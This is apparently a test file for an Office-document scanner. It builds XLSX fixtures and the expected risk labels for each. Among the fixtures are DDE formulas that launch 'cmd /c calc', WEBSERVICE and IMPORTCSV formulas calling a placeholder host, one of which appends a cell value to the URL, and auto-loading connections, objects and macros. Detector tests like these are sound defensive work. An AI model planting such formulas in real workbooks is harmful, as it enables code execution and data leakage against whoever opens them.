import { old, related, types, workbook, XLSX } from '../office-files.ts';
import { basicProject } from '../old-files.ts';
import { type Case, casesOf } from './case.ts';

const formula = (text: string) => () => workbook({}, `<f>${text}</f>`);
const part = (xml: string) => () => workbook({ 'xl/a.xml': xml });
const otherBook =
  (address: string, settings = '') =>
  () =>
    workbook({
      'xl/workbook.xml': `<workbook>${settings}<sheets><sheet name="1" r:id="rId1"/></sheets></workbook>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': related('externalLinkPath', address, 'External'),
    });
const pivot = (source: string) =>
  part(`<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="${source}"/></pivotCacheDefinition>`);

export const xlsxCases: Case[] = [
  ...casesOf('xlsx', {
    'a workbook without a sheet => wrong_content: damaged': () =>
      workbook({ 'xl/workbook.xml': '<workbook/>' }),
    'a workbook whose sheet is missing => wrong_content: damaged': () =>
      workbook({ 'xl/_rels/workbook.xml.rels': related('worksheet', 'a.xml') }),
    'formulas => taken': [
      formula('IF(A2="WEBSERVICE(",HYPERLINK("http://a.example/"),SUM(Table1[a|b])+\'a|b\'!A1)'),
      formula("'Image (1)'!A1+IFERROR(SUM(Table1[Call (a)]),0)"),
    ],
    'a formula that calls a program => has_scripts: field': [
      formula('DDE("cmd","/c calc","a")'),
      formula('RTD("a.b",,"c")'),
      formula("cmd|'/c calc'!A0"),
      part('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    ],
    'a formula that calls an address => loads_outside: function': [
      formula('_xlfn.WEBSERVICE("http://a.example/"&amp;B2)'),
      formula('1+_xlfn.IMAGE("http://a.example/a.png")'),
    ],
    'a formula that calls a library => has_macros: sheet': () =>
      workbook({
        'xl/workbook.xml':
          '<workbook><sheets><sheet r:id="rId1"/></sheets><definedName name="a">CALL("a","b")</definedName></workbook>',
      }),
    'a connection that is refreshed on opening => loads_outside: connection': part(
      '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://a.example/"/></connection></connections>',
    ),
    'a connection that is refreshed every hour => loads_outside: connection': part(
      '<connection id="1" interval="60"/>',
    ),
    'a connection that waits for a click => taken': part(
      '<connections><connection id="1" refreshOnLoad="0"><webPr url="http://a.example/"/></connection></connections>',
    ),
    'a query that is refreshed on opening => loads_outside: connection': part(
      '<queryTable refreshOnLoad="true"/>',
    ),
    'a pivot table that is refreshed from outside on opening => loads_outside: connection': pivot('external'),
    'a pivot table that is refreshed from the workbook itself => taken': pivot('worksheet'),
    'values of another workbook: Excel asks => taken': [
      otherBook('file:///C:\\a.xlsx'),
      otherBook('file:///\\\\a.example\\a.xlsx'),
    ],
    'values of another workbook, fetched without asking => loads_outside: connection': otherBook(
      'file:///\\\\a.example\\a.xlsx',
      '<workbookPr updateLinks="always"/>',
    ),
    'an object on another computer => loads_outside: object': () =>
      workbook({
        'xl/externalLinks/_rels/externalLink1.xml.rels': related(
          'oleObject',
          'http://a.example/',
          'External',
        ),
      }),
    'a picture on another computer => loads_outside: picture': () =>
      workbook({
        'xl/drawings/_rels/drawing1.xml.rels': related('image', 'http://a.example/a.png', 'External'),
      }),
    'an object that is loaded on opening => has_files: Equation.3': part(
      '<oleObject progId="Equation.3" autoLoad="1"/>',
    ),
    'an object that waits for a click => taken': part('<oleObject progId="Word.Document.12"/>'),
    'an open pane of an add-in => loads_outside: add_in': part(
      '<wetp:taskpanes><wetp:taskpane visibility="1"/></wetp:taskpanes>',
    ),
    'an add-in in a sheet => loads_outside: add_in': part('<we:webextensionref r:id="rId1"/>'),
    'a sheet of Excel 4 macros => has_macros: sheet': () =>
      workbook({
        '[Content_Types].xml': types(
          ['/xl/workbook.xml', XLSX],
          ['/xl/m.xml', 'application/vnd.ms-excel.macrosheet+xml'],
        ),
        'xl/m.xml': '<a/>',
      }),
    'macros => has_macros: basic': () =>
      workbook({ 'xl/vbaProject.bin': old('book.xls', basicProject('a', 'Shell "a"')) }),
    'a Visual Basic project without a line of code => taken': () =>
      workbook({ 'xl/vbaProject.bin': old('book.xls', basicProject('a', '')) }),
    'a button of Office’s own forms => taken': part(
      '<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
    ),
    'a control of another program => has_macros: controls': part(
      '<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
    ),
    'hidden rows, columns and sheets => taken': () =>
      workbook({
        'xl/workbook.xml':
          '<workbook><sheets><sheet name="1" state="veryHidden" r:id="rId1"/></sheets></workbook>',
      }),
  }),
  ...[
    '\'a"b\'!A1&amp;WEBSERVICE("http://a.example/")&amp;\'c"d\'!A1',
    "Table1['[]&amp;WEBSERVICE(A1)&amp;Table1['[]",
    '_xlfn.IMPORTCSV("http://a.example/a.csv")',
  ].map(
    (text): Case => ['a formula that calls an address', 'loads_outside: function', 'xlsx', formula(text)],
  ),
];
